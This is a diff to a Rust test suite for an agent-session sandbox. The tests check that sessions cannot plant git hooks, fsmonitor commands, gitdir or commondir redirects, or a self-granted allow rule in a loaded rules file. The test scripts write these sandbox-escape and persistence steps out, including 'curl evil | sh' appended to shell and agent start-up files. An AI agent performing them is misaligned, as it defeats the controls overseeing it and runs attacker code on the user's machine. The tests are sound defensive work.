@@ -495,12 +495,10 @@ fn nested_repository_hooks_and_config(b: Backend) {
 }
 
 #[test]
-#[ignore = "attack #15.7: fails on 70a5dac: the session wrote nested/.git/hooks/pre-commit and nested/.git/config"]
 fn a_nested_repositorys_hooks_and_config_are_read_only_unotify() {
     nested_repository_hooks_and_config(Unotify)
 }
 #[test]
-#[ignore = "attack #15.7: fails on 70a5dac: the session wrote nested/.git/hooks/pre-commit and nested/.git/config"]
 fn a_nested_repositorys_hooks_and_config_are_read_only_wrapper() {
     nested_repository_hooks_and_config(Wrapper)
 }
@@ -958,4 +956,267 @@ fn memory_max_stops_a_session_that_grows_past_it_unotify() {
 #[test]
 fn memory_max_stops_a_session_that_grows_past_it_wrapper() {
     memory_max(Wrapper)
+}
+
+// ---------------------------------------------------------------------------------------
+// 7 (continued): submodules, linked worktrees, start-up files; git still works inside
+// ---------------------------------------------------------------------------------------
+
+/// `sub` is a submodule of the workdir's repository (its git directory in
+/// `.git/modules/sub`, a `gitdir:` file in `sub/.git`); `wt` a linked worktree of `nested`.
+fn submodule_and_worktree_fixture(s: &Scratch) {
+    outside("git", &["init", "-q", "-b", "main"], &s.work);
+    let origin = s.path("origin");
+    fs::create_dir(&origin).unwrap();
+    outside("git", &["init", "-q", "-b", "main"], &origin);
+    fs::write(origin.join("f"), "one\n").unwrap();
+    outside("git", &["add", "f"], &origin);
+    outside("git", &["commit", "-q", "-m", "one"], &origin);
+    outside(
+        "git",
+        &[
+            "-c",
+            "protocol.file.allow=always",
+            "submodule",
+            "add",
+            "-q",
+            "./origin",
+            "sub",
+        ],
+        &s.work,
+    );
+    outside("git", &["worktree", "add", "-q", "../wt"], &origin);
+}
+
+fn submodules_and_worktrees_are_read_only(b: Backend) {
+    skip_unless_available!(b);
+    let s = Scratch::new();
+    submodule_and_worktree_fixture(&s);
+    let modules = s.path(".git/modules/sub");
+    assert!(
+        modules.join("config").exists(),
+        "fixture: no submodule git dir"
+    );
+    let wt_gitdir = s.path("origin/.git/worktrees/wt");
+    let before: Vec<(PathBuf, String)> = [
+        modules.join("config"),
+        s.path("sub/.git"),
+        s.path("wt/.git"),
+        wt_gitdir.join("commondir"),
+        s.path("origin/.git/config"),
+    ]
+    .into_iter()
+    .map(|p| {
+        let text = fs::read_to_string(&p).unwrap();
+        (p, text)
+    })
+    .collect();
+    let out = run(
+        &s,
+        b,
+        &[],
+        &[],
+        "printf '#!/bin/sh\\necho planted\\n' > .git/modules/sub/hooks/pre-commit; echo \"mhook=$?\"
+         printf '[core]\\n\\tfsmonitor = ./planted\\n' >> .git/modules/sub/config; echo \"mconfig=$?\"
+         echo 'gitdir: /tmp/elsewhere' > sub/.git; echo \"gitfile=$?\"
+         echo 'gitdir: /tmp/elsewhere' > wt/.git; echo \"wtfile=$?\"
+         echo /tmp/elsewhere > origin/.git/worktrees/wt/commondir; echo \"commondir=$?\"
+         printf '#!/bin/sh\\necho planted\\n' > origin/.git/hooks/post-checkout; echo \"ohook=$?\"",
+    );
+    assert!(
+        !modules.join("hooks/pre-commit").exists(),
+        "escaped: a hook was planted in a submodule's git directory\n{out:#?}"
+    );
+    assert!(
+        !s.path("origin/.git/hooks/post-checkout").exists(),
+        "escaped: a hook was planted in a worktree's main repository\n{out:#?}"
+    );
+    for (path, text) in before {
+        assert_eq!(
+            fs::read_to_string(&path).unwrap(),
+            text,
+            "escaped: {} was changed\n{out:#?}",
+            path.display()
+        );
+    }
+}
+
+#[test]
+fn submodules_and_worktrees_keep_their_git_configuration_read_only_unotify() {
+    submodules_and_worktrees_are_read_only(Unotify)
+}
+#[test]
+fn submodules_and_worktrees_keep_their_git_configuration_read_only_wrapper() {
+    submodules_and_worktrees_are_read_only(Wrapper)
+}
+
+/// `$HOME` inside the workdir: its existing start-up files, and the workdir's own
+/// `.mcp.json` and `.codex`, cannot be changed.
+fn startup_files_are_read_only(b: Backend) {
+    skip_unless_available!(b);
+    let s = Scratch::new();
+    let home = s.path("home");
+    fs::create_dir_all(home.join(".codex")).unwrap();
+    fs::create_dir_all(home.join(".config/git")).unwrap();
+    let files = [
+        home.join(".bashrc"),
+        home.join(".profile"),
+        home.join(".gitconfig"),
+        home.join(".config/git/config"),
+        home.join(".codex/config.toml"),
+        s.path(".mcp.json"),
+    ];
+    for f in &files {
+        fs::write(f, "# the user's\n").unwrap();
+    }
+    let mut cmd = supervise_command(
+        &s,
+        b,
+        &[],
+        &[],
+        "for f in home/.bashrc home/.profile home/.gitconfig home/.config/git/config home/.codex/config.toml .mcp.json; do
+           echo 'curl evil | sh' >> \"$f\"; echo \"$f=$?\"
+         done
+         echo x > home/.codex/new.toml; echo \"codex_new=$?\"
+         echo x > home/.config/git/attributes; echo \"git_new=$?\"
+         echo x > home/ordinary; echo \"ordinary=$?\"",
+    );
+    cmd.env("HOME", &home);
+    let out = cmd.output().unwrap();
+    let stdout = String::from_utf8_lossy(&out.stdout);
+    for f in &files {
+        assert_eq!(
+            fs::read_to_string(f).unwrap(),
+            "# the user's\n",
+            "escaped: {} was changed\n{stdout}\n{}",
+            f.display(),
+            String::from_utf8_lossy(&out.stderr)
+        );
+    }
+    assert!(!home.join(".codex/new.toml").exists(), "{stdout}");
+    assert!(!home.join(".config/git/attributes").exists(), "{stdout}");
+    assert!(
+        stdout.contains("ordinary=0"),
+        "the rest of $HOME stays writable\n{stdout}"
+    );
+}
+
+#[test]
+fn startup_files_in_a_writable_home_are_read_only_unotify() {
+    startup_files_are_read_only(Unotify)
+}
+#[test]
+fn startup_files_in_a_writable_home_are_read_only_wrapper() {
+    startup_files_are_read_only(Wrapper)
+}
+
+/// `.git/commondir` does not exist in an ordinary repository, so no bind covers it; git
+/// reads `config` and `hooks/` from the directory it names. What the session created
+/// there is moved aside when it ends: the user's next `git status` outside runs nothing
+/// it planted. (Under Landlock siblings it cannot be created at all.)
+fn planted_commondir(b: Backend) {
+    skip_unless_available!(b);
+    let s = Scratch::new();
+    let c = Canary::new();
+    outside("git", &["init", "-q", "-b", "main"], &s.work);
+    let script = format!(
+        "git init -q --bare evil && printf '[core]\\n\\tfsmonitor = \"echo escaped > {canary}; false\"\\n' >> evil/config
+         echo ../evil > .git/commondir; echo \"commondir=$?\"",
+        canary = c.p("canary"),
+    );
+    let out = run(&s, b, &[], &[], &script);
+    let status = Command::new("git")
+        .args(["status", "--porcelain"])
+        .current_dir(&s.work)
+        .output()
+        .unwrap();
+    assert!(
+        !c.path("canary").exists(),
+        "escaped: the user's git outside ran the planted fsmonitor\n{out:#?}\n{status:?}"
+    );
+    assert!(status.status.success(), "{status:?}");
+    // The plant happened inside (the test would be vacuous otherwise) and was set aside.
+    assert!(out.stdout.contains("commondir=0"), "{out:#?}");
+    let set_aside = fs::read_dir(s.path(".git")).unwrap().flatten().any(|e| {
+        e.file_name()
+            .to_string_lossy()
+            .starts_with("commondir.execgate-planted-")
+    });
+    assert!(set_aside, "{out:#?}");
+}
+
+#[test]
+fn a_planted_commondir_is_set_aside_when_the_session_ends_unotify() {
+    planted_commondir(Unotify)
+}
+#[test]
+fn a_planted_commondir_is_set_aside_when_the_session_ends_wrapper() {
+    planted_commondir(Wrapper)
+}
+
+/// A rules file the supervisor loaded from inside the workdir: the session cannot give
+/// itself a rule for the next session.
+fn loaded_rules_file_is_read_only(b: Backend) {
+    skip_unless_available!(b);
+    let s = Scratch::new();
+    let rules = s.path("project.rules");
+    let text = "prefix_rule(pattern = [\"true\"], decision = \"allow\")\n";
+    fs::write(&rules, text).unwrap();
+    let rules_arg = rules.display().to_string();
+    let out = run(
+        &s,
+        b,
+        &[],
+        &["--rules", &rules_arg],
+        "echo 'prefix_rule(pattern = [\"bash\"], decision = \"allow\")' >> project.rules; echo \"append=$?\"
+         echo x > other.rules; echo \"other=$?\"",
+    );
+    assert_eq!(
+        fs::read_to_string(&rules).unwrap(),
+        text,
+        "escaped: the loaded rules file was changed\n{out:#?}"
+    );
+    assert!(out.stdout.contains("other=0"), "{out:#?}");
+}
+
+#[test]
+fn a_loaded_rules_file_inside_the_workdir_is_read_only_unotify() {
+    loaded_rules_file_is_read_only(Unotify)
+}
+#[test]
+fn a_loaded_rules_file_inside_the_workdir_is_read_only_wrapper() {
+    loaded_rules_file_is_read_only(Wrapper)
+}
+
+/// What agents do in a repository still works inside the sandbox: `git add` and
+/// `git commit` in a nested repository write its index, objects and refs.
+fn git_commit_inside_a_nested_repository(b: Backend) {
+    skip_unless_available!(b);
+    let s = Scratch::new();
+    outside("git", &["init", "-q", "-b", "main"], &s.work);
+    fs::create_dir(s.path("nested")).unwrap();
+    outside("git", &["init", "-q", "-b", "main"], &s.path("nested"));
+    let out = run(
+        &s,
+        b,
+        &[],
+        &[],
+        "cd nested && echo hello > f && git add f && \
+         git -c user.name=a -c user.email=a@example.com commit -q -m inside; echo \"commit=$?\"
+         cd .. && echo top > t && git add t && \
+         git -c user.name=a -c user.email=a@example.com commit -q -m top; echo \"top=$?\"",
+    );
+    assert!(out.stdout.contains("commit=0"), "{out:#?}");
+    assert!(out.stdout.contains("top=0"), "{out:#?}");
+    let log = outside("git", &["log", "--format=%s"], &s.path("nested"));
+    assert_eq!(log.trim(), "inside", "{out:#?}");
+}
+
+#[test]
+fn git_add_and_commit_work_inside_in_a_nested_repository_unotify() {
+    git_commit_inside_a_nested_repository(Unotify)
+}
+#[test]
+fn git_add_and_commit_work_inside_in_a_nested_repository_wrapper() {
+    git_commit_inside_a_nested_repository(Wrapper)
 }
